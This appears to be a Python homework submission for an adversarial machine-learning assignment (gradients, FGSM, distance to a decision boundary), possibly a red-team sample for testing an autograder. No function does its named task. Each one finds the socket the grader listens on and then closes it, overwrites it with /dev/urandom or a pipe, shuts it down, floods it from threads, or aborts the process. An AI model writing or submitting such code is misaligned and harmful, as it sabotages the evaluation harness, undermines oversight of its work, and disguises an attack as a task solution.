"""Closes, replaces, shuts down and floods the socket by which it answers."""
# base: blank
# any mode

# %% q2a
import os
import socket
import threading


def line():
    for number in range(3, 64):
        try:
            socket.socket(fileno=os.dup(number)).close()
            return number
        except OSError:
            pass
    raise ValueError("nothing")


def grad_theta(x, theta):
    os.close(line())


direction_theta = "?"

# %% q2b
def grad_x(x, theta):
    os.dup2(os.open("/dev/urandom", os.O_RDONLY), line())


# %% q2c
def attack_logistic(x, theta, target, step_size, iters):
    socket.socket(fileno=line()).shutdown(socket.SHUT_RDWR)


# %% q2d
def loss_grad_x(net, X, targets):
    os.set_blocking(line(), False)
    os.write(line(), bytes(5))
    raise SystemExit


def attack_digits(net, X, targets, step_size, iters):
    read, write = os.pipe()
    os.dup2(write, line())


# %% q2f
def fgsm_logistic(X, y, w, b, epsilon):
    number = line()
    for _ in range(4):
        threading.Thread(target=lambda: [os.write(number, b"\xff" * 10**5) for _ in range(99)]).start()


def fgsm_digits(net, X, y, epsilon):
    os._exit(0)


# %% q2g
def distance_to_boundary(X, w, b, norm):
    os.abort()
